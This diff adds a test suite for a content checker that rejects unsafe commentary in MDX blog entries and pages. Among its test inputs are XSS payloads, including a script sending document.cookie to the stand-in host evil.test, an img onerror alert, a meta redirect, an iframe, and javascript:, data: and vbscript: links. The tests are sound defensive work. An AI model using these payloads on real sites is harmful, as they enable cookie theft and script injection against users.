@@ -1,0 +1,144 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { checkContent, type ContentFile, formatFinding } from './check';
+
+const vocabulary: ContentFile = {
+  file: 'content/tags.yml',
+  source: 'tags:\n  - name: consensus\n    title: Consensus\n    description: Agreeing despite failures.\n',
+};
+
+/** An entry whose commentary starts on line 9 of its file, after a blank line. */
+function entry(body: string): ContentFile {
+  const front = ['title: Paxos', 'url: https://example.com/paxos', 'date: 2026-03-01', 'description: One sentence.', 'tags: [consensus]'];
+  return { file: 'content/posts/paxos.mdx', source: `---\n${front.join('\n')}\n---\n\n${body}` };
+}
+
+/** What `npm run check` prints for an entry with this commentary. */
+function findings(body: string): string[] {
+  return checkContent({
+    posts: [entry(body)],
+    pages: [],
+    vocabulary,
+    publicPaths: [],
+    today: '2026-06-01',
+    siteUrl: 'https://example.com',
+    pageSize: 10,
+  }).map(formatFinding);
+}
+
+describe('the commentary check', () => {
+  it('accepts Markdown, escaped braces, code, and prose with a bare <', () => {
+    assert.deepEqual(
+      findings(
+        [
+          'Read **this** and [that](https://other.example/a), or [mail](mailto:me@example.com) or [here](/tags) or [up](#top).',
+          '',
+          'Latency fell from 5ms to <2ms, and a < b holds; a set is written \\{1, 2\\}.',
+          '',
+          '`{code}` and `<script>` in code are text:',
+          '',
+          '```js',
+          'const x = { a: 1 }; // <b>',
+          '```',
+          '',
+          '![diagram](https://example.com/d.png)',
+        ].join('\n'),
+      ),
+      [],
+    );
+  });
+
+  it('refuses an expression, naming the line and how to write a literal brace', () => {
+    assert.deepEqual(findings('Fine line.\n\nThe home is {process.env.HOME}.\n'), [
+      'content/posts/paxos.mdx:11 commentary: `{` starts an expression, and expressions are not run: write `\\{` for a literal brace',
+    ]);
+  });
+
+  it('refuses import and export lines', () => {
+    const lines = findings("import pkg from '../../package.json'\n\nexport const x = 1\n");
+    assert.equal(lines.length, 2);
+    assert.match(lines[0], /^content\/posts\/paxos\.mdx:9 commentary: `import` and `export` are not run/);
+    assert.match(lines[1], /^content\/posts\/paxos\.mdx:11 commentary: `import` and `export` are not run/);
+  });
+
+  it('refuses raw HTML, components and HTML comments, each on its own line', () => {
+    const lines = findings(
+      [
+        '<script>fetch("https://evil.test/?" + document.cookie)</script>',
+        '',
+        '<meta httpEquiv="refresh" content="0; url=https://evil.test" />',
+        '',
+        'Inline <img src=x onerror=alert(1)> here.',
+        '',
+        '<Chart data={[1, 2]} />',
+        '',
+        '<iframe src="https://evil.test"></iframe>',
+        '',
+        '<!-- a note -->',
+      ].join('\n'),
+    );
+    assert.deepEqual(
+      lines.map((line) => /^\S+:(\d+) commentary: (\S+ \S+ \S+ \S+)/.exec(line)!.slice(1).join(' ')),
+      [
+        '9 raw HTML <script> is',
+        '11 raw HTML <meta> is',
+        '13 raw HTML <img> is',
+        '15 <Chart> is a component,',
+        '17 raw HTML <iframe> is',
+        '19 an HTML comment is',
+      ],
+    );
+    assert.match(lines[0], /write `\\<` for a literal </);
+  });
+
+  it('refuses links and images whose scheme would be dropped', () => {
+    const lines = findings(
+      [
+        '[a](javascript:alert(1))',
+        '',
+        '[b](JavaScript:alert(1))',
+        '',
+        '[c](data:text/html;base64,PHNjcmlwdD4=)',
+        '',
+        '![d](data:image/svg+xml;base64,PHN2Zz4=)',
+        '',
+        '[e][ref]',
+        '',
+        '[ref]: vbscript:msgbox',
+        '',
+        '[f](ftp://example.com/file)',
+      ].join('\n'),
+    );
+    assert.deepEqual(
+      lines.map((line) => /^\S+:(\d+) commentary: (.*?) is not allowed/.exec(line)!.slice(1).join(' ')),
+      [
+        '9 a link to a javascript: URL',
+        '11 a link to a javascript: URL',
+        '13 a link to a data: URL',
+        '15 an image to a data: URL',
+        '19 a link to a vbscript: URL',
+        '21 a link to a ftp: URL',
+      ],
+    );
+  });
+
+  it('refuses control characters other than tab and line breaks', () => {
+    assert.deepEqual(findings('Tab\tis fine.\r\nBell \u0007 is not.\n'), [
+      'content/posts/paxos.mdx:10 commentary: holds the control character U+0007, which no reader can see: delete it',
+    ]);
+  });
+
+  it('checks pages as it checks entries', () => {
+    const page = { file: 'content/pages/about.mdx', source: '---\ntitle: About\ndescription: What this is.\n---\n<script>x</script>\n' };
+    const found = checkContent({
+      posts: [],
+      pages: [page],
+      vocabulary,
+      publicPaths: [],
+      today: '2026-06-01',
+      siteUrl: 'https://example.com',
+      pageSize: 10,
+    }).map(formatFinding);
+    assert.match(found.join('\n'), /^content\/pages\/about\.mdx:5 commentary: raw HTML <script>/);
+  });
+});
